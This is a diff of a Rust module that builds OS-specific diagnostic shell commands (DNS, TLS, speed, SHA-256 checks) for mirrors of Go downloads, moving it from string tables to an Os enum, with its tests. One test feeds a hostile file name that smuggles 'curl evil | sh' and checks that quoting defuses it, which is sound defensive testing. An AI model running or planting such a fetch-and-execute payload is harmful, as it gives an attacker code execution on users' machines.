@@ -6,7 +6,7 @@
 //! with the host, URL and file in question, each quoted for the visitor's shell
 //! (`commands::quote`): the file's name is the visitor's, and may hold anything.
 
-use crate::commands::{quote, word};
+use crate::commands::{quote, word, Os};
 use crate::i18n::{substitute, text, Lang};
 use crate::probe::Reason;
 use crate::rank::{Figures, Status};
@@ -148,113 +148,98 @@ pub fn host_of(url: &str) -> &str {
 }
 
 /// Network checks, for a host that fails or is slow: name resolution, route, TCP and TLS,
-/// and where the time goes. `{root}` is the host's `https://…/`. A `unix` row serves Linux and
-/// macOS alike (`template`).
-const NETWORK: &[(&str, &str)] = &[
-    (
-        "unix",
-        "nslookup {host}    # {or}: dig +short {host}\n\
+/// and where the time goes. `{root}` is the host's `https://…/`.
+fn network(os: Os) -> &'static str {
+    match os {
+        Os::Linux | Os::Darwin => {
+            "nslookup {host}    # {or}: dig +short {host}\n\
          curl -sv -o /dev/null {root} 2>&1 | head -n 30\n\
          curl -s -o /dev/null -w 'dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s\\n' {root}\n\
          traceroute {host}    # {or}: mtr -rw {host}\n\
-         openssl s_client -connect {host}:443 -servername {host} </dev/null | head -n 20",
-    ),
-    (
-        "windows",
-        "nslookup {host}\n\
+         openssl s_client -connect {host}:443 -servername {host} </dev/null | head -n 20"
+        }
+        Os::Windows => {
+            "nslookup {host}\n\
          Test-NetConnection {host} -Port 443\n\
          curl.exe -sv -o NUL {root}\n\
          curl.exe -s -o NUL -w \"dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s`n\" {root}\n\
-         tracert {host}",
-    ),
-];
+         tracert {host}"
+        }
+    }
+}
 
 /// Download speed of the file itself.
-const SPEED: &[(&str, &str)] = &[
-    (
-        "linux",
-        "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' {url}\n\
-         wget -O /dev/null {url}",
-    ),
-    (
-        "darwin",
-        "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' {url}",
-    ),
-    (
-        "windows",
-        "curl.exe -o NUL -w \"speed %{speed_download} bytes/s, total %{time_total}s`n\" {url}",
-    ),
-];
+fn speed(os: Os) -> &'static str {
+    match os {
+        Os::Linux => {
+            "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' {url}\n\
+             wget -O /dev/null {url}"
+        }
+        Os::Darwin => {
+            "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' {url}"
+        }
+        Os::Windows => {
+            "curl.exe -o NUL -w \"speed %{speed_download} bytes/s, total %{time_total}s`n\" {url}"
+        }
+    }
+}
 
 /// A file that is not what it should be: its hash, size and first bytes; what the server sends
 /// (redirects, type, size, transport compression); a clean download, resumed (`{resume}`) only
 /// where the file was cut short, since anything else would keep the bad bytes; then, where the
-/// checksum is known, `CHECK`. `{sum}` is the OS's SHA-256 command.
-const BAD_FILE: &[(&str, &str)] = &[
-    (
-        "unix",
-        "{sum} {file}\n\
+/// checksum is known, [`is_official`]. `{sum}` is the OS's SHA-256 command.
+fn bad_file(os: Os) -> &'static str {
+    match os {
+        Os::Linux | Os::Darwin => {
+            "{sum} {file}\n\
          ls -l {file}\n\
          file {file}; head -c 300 {file} | strings | head\n\
          # {headers}\n\
          curl -sIL -H 'Accept-Encoding: gzip' {url} | grep -iE '^(HTTP|location|content-(type|length|encoding))'\n\
          # {again}\n\
-         curl -fL {resume}-o {file} {url}",
-    ),
-    (
-        "windows",
-        "Get-FileHash -LiteralPath {file} -Algorithm SHA256\n\
+         curl -fL {resume}-o {file} {url}"
+        }
+        Os::Windows => {
+            "Get-FileHash -LiteralPath {file} -Algorithm SHA256\n\
          (Get-Item -LiteralPath {file}).Length\n\
          Get-Content -LiteralPath {file} -TotalCount 5\n\
          # {headers}\n\
          curl.exe -sIL -H 'Accept-Encoding: gzip' {url} | Select-String '^(HTTP|location|content-(type|length|encoding))'\n\
          # {again}\n\
-         curl.exe -fL {resume}-o {file} {url}",
-    ),
-];
-
-/// After a new download: whether it is the official file.
-const CHECK: &[(&str, &str)] = &[
-    ("unix", "printf '%s\\n' {check} | {sum} -c -"),
-    (
-        "windows",
-        "(Get-FileHash -LiteralPath {file} -Algorithm SHA256).Hash -eq {sha256}",
-    ),
-];
-
-/// A mirror that serves another file than the official host: both answers side by side.
-const STALE: &[(&str, &str)] = &[
-    (
-        "unix",
-        "# {mirror-says}\n\
-         curl -sIL {url} | grep -iE '^(HTTP|content-length)'\n\
-         # {official-says}\n\
-         curl -sIL {official} | grep -iE '^(HTTP|content-length)'",
-    ),
-    (
-        "windows",
-        "# {mirror-says}\n\
-         curl.exe -sIL {url} | Select-String '^(HTTP|content-length)'\n\
-         # {official-says}\n\
-         curl.exe -sIL {official} | Select-String '^(HTTP|content-length)'",
-    ),
-];
-
-/// The template of `table` for `os`; `unix` rows serve Linux and macOS.
-fn template(table: &[(&str, &'static str)], os: &str) -> Option<&'static str> {
-    let family = match os {
-        "linux" | "darwin" => "unix",
-        other => other,
-    };
-    table
-        .iter()
-        .find(|(o, _)| *o == os || *o == family)
-        .map(|(_, t)| *t)
+         curl.exe -fL {resume}-o {file} {url}"
+        }
+    }
 }
 
-/// The commands that confirm `finding` on `os` (`linux`, `darwin`, `windows`), with comments
-/// in `lang`; every value quoted for that OS's shell.
-pub fn commands(lang: Lang, finding: Finding, os: &str, subject: &Subject) -> Option<String> {
+/// After a new download: whether it is the official file.
+fn is_official(os: Os) -> &'static str {
+    match os {
+        Os::Linux | Os::Darwin => "printf '%s\\n' {check} | {sum} -c -",
+        Os::Windows => "(Get-FileHash -LiteralPath {file} -Algorithm SHA256).Hash -eq {sha256}",
+    }
+}
+
+/// A mirror that serves another file than the official host: both answers side by side.
+fn stale(os: Os) -> &'static str {
+    match os {
+        Os::Linux | Os::Darwin => {
+            "# {mirror-says}\n\
+         curl -sIL {url} | grep -iE '^(HTTP|content-length)'\n\
+         # {official-says}\n\
+         curl -sIL {official} | grep -iE '^(HTTP|content-length)'"
+        }
+        Os::Windows => {
+            "# {mirror-says}\n\
+         curl.exe -sIL {url} | Select-String '^(HTTP|content-length)'\n\
+         # {official-says}\n\
+         curl.exe -sIL {official} | Select-String '^(HTTP|content-length)'"
+        }
+    }
+}
+
+/// The commands that confirm `finding` on `os`, with comments in `lang`; every value quoted
+/// for that OS's shell. `None` for [`Finding::Ok`].
+pub fn commands(lang: Lang, finding: Finding, os: Os, subject: &Subject) -> Option<String> {
     let Subject {
         host,
         url,
@@ -262,15 +247,15 @@ pub fn commands(lang: Lang, finding: Finding, os: &str, subject: &Subject) -> Op
         sha256,
     } = subject;
     let table = match finding {
-        Finding::AllUnreachable | Finding::OfficialUnreachable => NETWORK,
-        Finding::Slow => SPEED,
-        Finding::BadFile(_) => BAD_FILE,
+        Finding::AllUnreachable | Finding::OfficialUnreachable => network,
+        Finding::Slow => speed,
+        Finding::BadFile(_) => bad_file,
         Finding::Ok => return None,
     };
-    let mut template = self::template(table, os)?.to_string();
+    let mut template = table(os).to_string();
     if matches!(finding, Finding::BadFile(_)) && !sha256.is_empty() {
         template.push('\n');
-        template.push_str(self::template(CHECK, os)?);
+        template.push_str(is_official(os));
     }
     let resume = finding == Finding::BadFile(Kind::Truncated);
     // A name that starts with `-` would be read as an option.
@@ -296,14 +281,7 @@ pub fn commands(lang: Lang, finding: Finding, os: &str, subject: &Subject) -> Op
             ("file", &file),
             ("sha256", &sha256),
             ("check", &check),
-            (
-                "sum",
-                if os == "darwin" {
-                    "shasum -a 256"
-                } else {
-                    "sha256sum"
-                },
-            ),
+            ("sum", os.sha256sum()),
             ("resume", if resume { "-C - " } else { "" }),
             ("or", text(lang, "cmd-or")),
             ("headers", text(lang, "cmd-headers")),
@@ -316,17 +294,17 @@ pub fn commands(lang: Lang, finding: Finding, os: &str, subject: &Subject) -> Op
 }
 
 /// The commands that show a stale mirror's answer for `url` beside the official `official`.
-pub fn stale_commands(lang: Lang, os: &str, url: &str, official: &str) -> Option<String> {
+pub fn stale_commands(lang: Lang, os: Os, url: &str, official: &str) -> String {
     let (url, official) = (quote(os, url), quote(os, official));
-    Some(substitute(
-        template(STALE, os)?,
+    substitute(
+        stale(os),
         &[
             ("url", &url),
             ("official", &official),
             ("mirror-says", text(lang, "cmd-mirror-says")),
             ("official-says", text(lang, "cmd-official-says")),
         ],
-    ))
+    )
 }
 
 #[cfg(test)]
@@ -480,35 +458,35 @@ mod tests {
         }
     }
 
-    fn run(finding: Finding, os: &str, subject: &Subject) -> String {
+    fn run(finding: Finding, os: Os, subject: &Subject) -> String {
         commands(Lang::En, finding, os, subject).unwrap()
     }
 
     #[test]
     fn network_and_speed_commands_per_os() {
         let subject = subject();
-        let net = run(Finding::AllUnreachable, "linux", &subject);
+        let net = run(Finding::AllUnreachable, Os::Linux, &subject);
         assert!(net.starts_with("nslookup dl.google.com    # or: dig +short dl.google.com\n"));
         assert!(net.contains("curl -sv -o /dev/null 'https://dl.google.com/' 2>&1"));
         assert!(net.contains("%{time_connect}"));
         assert!(net.contains("openssl s_client -connect dl.google.com:443"));
-        let win = run(Finding::OfficialUnreachable, "windows", &subject);
+        let win = run(Finding::OfficialUnreachable, Os::Windows, &subject);
         assert!(win.contains("tracert dl.google.com"));
         assert!(win.contains("Test-NetConnection dl.google.com -Port 443"));
         assert!(win.contains("curl.exe -sv -o NUL 'https://dl.google.com/'"));
-        let zh = commands(Lang::Zh, Finding::AllUnreachable, "linux", &subject).unwrap();
+        let zh = commands(Lang::Zh, Finding::AllUnreachable, Os::Linux, &subject).unwrap();
         assert!(
             zh.starts_with("nslookup dl.google.com    # 或: dig"),
             "{zh}"
         );
-        let speed = run(Finding::Slow, "linux", &subject);
+        let speed = run(Finding::Slow, Os::Linux, &subject);
         assert!(speed.contains(&format!("'{}'", subject.url)));
         for finding in [
             Finding::AllUnreachable,
             Finding::Slow,
             Finding::BadFile(Kind::Html),
         ] {
-            for os in ["linux", "darwin", "windows"] {
+            for os in Os::ALL {
                 let c = run(finding, os, &subject);
                 for hole in [
                     "{host}", "{root}", "{url}", "{file}", "{sha256}", "{check}", "{or}",
@@ -517,15 +495,15 @@ mod tests {
                 }
             }
         }
-        assert_eq!(commands(Lang::En, Finding::Ok, "linux", &subject), None);
-        assert_eq!(commands(Lang::En, Finding::Slow, "plan9", &subject), None);
+        assert_eq!(commands(Lang::En, Finding::Ok, Os::Linux, &subject), None);
+        assert_eq!(Os::from_goos("plan9"), None);
     }
 
     #[test]
     fn only_a_cut_file_is_resumed() {
         let subject = subject();
         let (file, url) = (&subject.file, &subject.url);
-        let cut = run(Finding::BadFile(Kind::Truncated), "linux", &subject);
+        let cut = run(Finding::BadFile(Kind::Truncated), Os::Linux, &subject);
         assert!(
             cut.contains(&format!("curl -fL -C - -o '{file}' '{url}'")),
             "{cut}"
@@ -538,9 +516,9 @@ mod tests {
             Kind::Mismatch,
             Kind::WrongFile,
         ] {
-            for os in ["linux", "darwin", "windows"] {
+            for os in Os::ALL {
                 let c = run(Finding::BadFile(kind), os, &subject);
-                assert!(!c.contains("-C -"), "{kind:?} {os}: {c}");
+                assert!(!c.contains("-C -"), "{kind:?} {os:?}: {c}");
                 assert!(c.contains(&format!("-fL -o '{file}' '{url}'")), "{c}");
                 // What the server sends, transport compression included.
                 assert!(c.contains("-sIL -H 'Accept-Encoding: gzip'"), "{c}");
@@ -552,15 +530,15 @@ mod tests {
     fn a_new_download_is_checked_when_the_checksum_is_known() {
         let mut subject = subject();
         let (sha, file) = (subject.sha256.clone(), subject.file.clone());
-        let linux = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
+        let linux = run(Finding::BadFile(Kind::Mismatch), Os::Linux, &subject);
         assert!(linux.ends_with(&format!(
             "\nprintf '%s\\n' '{sha}  {file}' | sha256sum -c -"
         )));
         assert!(linux.starts_with(&format!("sha256sum '{file}'\n")));
-        let mac = run(Finding::BadFile(Kind::Mismatch), "darwin", &subject);
+        let mac = run(Finding::BadFile(Kind::Mismatch), Os::Darwin, &subject);
         assert!(mac.starts_with(&format!("shasum -a 256 '{file}'")));
         assert!(mac.ends_with("| shasum -a 256 -c -"));
-        let win = run(Finding::BadFile(Kind::Html), "windows", &subject);
+        let win = run(Finding::BadFile(Kind::Html), Os::Windows, &subject);
         assert!(win.starts_with(&format!(
             "Get-FileHash -LiteralPath '{file}' -Algorithm SHA256\n"
         )));
@@ -568,7 +546,7 @@ mod tests {
             "(Get-FileHash -LiteralPath '{file}' -Algorithm SHA256).Hash -eq '{sha}'"
         )));
         subject.sha256.clear();
-        let unknown = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
+        let unknown = run(Finding::BadFile(Kind::Mismatch), Os::Linux, &subject);
         assert!(!unknown.contains("sha256sum -c"), "{unknown}");
         assert!(unknown.ends_with(&format!("-o '{file}' '{}'", subject.url)));
     }
@@ -577,14 +555,14 @@ mod tests {
     fn a_hostile_file_name_stays_one_quoted_word() {
         let mut subject = subject();
         subject.file = "go'; curl evil | sh; '.tar.gz".into();
-        let linux = run(Finding::BadFile(Kind::Html), "linux", &subject);
+        let linux = run(Finding::BadFile(Kind::Html), Os::Linux, &subject);
         assert!(linux.starts_with("sha256sum 'go'\\''; curl evil | sh; '\\''.tar.gz'\n"));
-        let win = run(Finding::BadFile(Kind::Html), "windows", &subject);
+        let win = run(Finding::BadFile(Kind::Html), Os::Windows, &subject);
         assert!(win
             .starts_with("Get-FileHash -LiteralPath 'go''; curl evil | sh; ''.tar.gz' -Algorithm"));
         // Nor is a name read as an option.
         subject.file = "--help.tar.gz".into();
-        let linux = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
+        let linux = run(Finding::BadFile(Kind::Mismatch), Os::Linux, &subject);
         assert!(
             linux.starts_with("sha256sum './--help.tar.gz'\n"),
             "{linux}"
@@ -596,12 +574,12 @@ mod tests {
     fn stale_mirror_against_the_official_host() {
         let mirror = "https://mirror.example/golang/go1.22.0.linux-amd64.tar.gz";
         let official = "https://dl.google.com/go/go1.22.0.linux-amd64.tar.gz";
-        let linux = stale_commands(Lang::En, "linux", mirror, official).unwrap();
+        let linux = stale_commands(Lang::En, Os::Linux, mirror, official);
         assert!(linux.contains(&format!("curl -sIL '{mirror}' | grep -iE")));
         assert!(linux.contains(&format!("curl -sIL '{official}' | grep -iE")));
-        let win = stale_commands(Lang::Zh, "windows", mirror, official).unwrap();
+        let win = stale_commands(Lang::Zh, Os::Windows, mirror, official);
         assert!(win.contains(&format!("curl.exe -sIL '{mirror}' | Select-String")));
         assert!(!win.contains('{'), "{win}");
-        assert_eq!(stale_commands(Lang::En, "plan9", mirror, official), None);
+        assert_eq!(Os::from_goos("plan9"), None);
     }
 }
